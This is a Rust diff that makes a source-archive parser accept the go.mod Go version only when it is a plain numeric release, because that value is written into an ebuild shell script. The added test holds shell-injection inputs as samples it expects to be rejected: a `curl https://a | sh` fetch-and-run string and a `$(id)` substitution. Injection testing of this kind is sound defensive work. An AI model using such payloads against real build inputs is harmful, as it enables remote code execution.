@@ -159,17 +159,23 @@ impl Source {
             }
             let mut text = String::new();
             entry.by_ref().take(LARGEST_TEXT_BYTES).read_to_string(&mut text)?;
-            let mut lines = text.lines();
             if is_comment {
-                commit = lines.find_map(|line| Some(line.split_once(" comment=")?.1.to_owned()));
-            } else if let (Some(commit), Some(go)) = (commit, lines.find_map(|line| line.strip_prefix("go "))) {
-                return Ok(Self { commit, go: go.trim().to_owned() });
+                commit = text.lines().find_map(|line| Some(line.split_once(" comment=")?.1.to_owned()));
+            } else if let (Some(commit), Some(go)) = (commit, oldest_go(&text)) {
+                return Ok(Self { commit, go: go.to_owned() });
             } else {
                 break;
             }
         }
-        bail!("{archive} is not upstream's source archive: it names no commit, or has no go.mod")
+        bail!("{archive} is not upstream's source archive: it names no commit, or its go.mod no release of Go")
     }
+}
+
+/// The oldest Go that a `go.mod` takes, if it is a release. It becomes part of the ebuild, which is a shell script.
+fn oldest_go(go_mod: &str) -> Option<&str> {
+    let version = go_mod.lines().find_map(|line| line.strip_prefix("go "))?.trim();
+    let is_release = version.len() <= 20 && version.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
+    is_release.then_some(version)
 }
 
 /// Whether this is `DIRECTORY/go.mod`.
@@ -180,6 +186,23 @@ fn is_go_mod(path: &[u8]) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::mutated_input;
+
+    #[test]
+    fn nothing_but_a_version_of_go_gets_into_an_ebuild() {
+        let go_mod = "module github.com/moby/buildkit\n\ngo 1.26.3\n\ntool example.com/a\n";
+        assert_eq!(oldest_go(go_mod), Some("1.26.3"));
+        for hostile in ["go 1.26\"; curl https://a | sh; \"\n", "go $(id)\n", "go 1.27rc1\n", "module a\n", ""] {
+            assert_eq!(oldest_go(hostile), None, "{hostile}");
+        }
+        arbtest::arbtest(|source| {
+            let text = mutated_input::text(source, go_mod)?;
+            if let Some(go) = oldest_go(&text) {
+                assert!(go.len() <= 20 && !go.contains(|char: char| !char.is_ascii_digit() && char != '.'), "{go:?}");
+            }
+            Ok(())
+        });
+    }
 
     #[test]
     fn a_release_and_a_candidate_have_versions_and_others_have_none() {
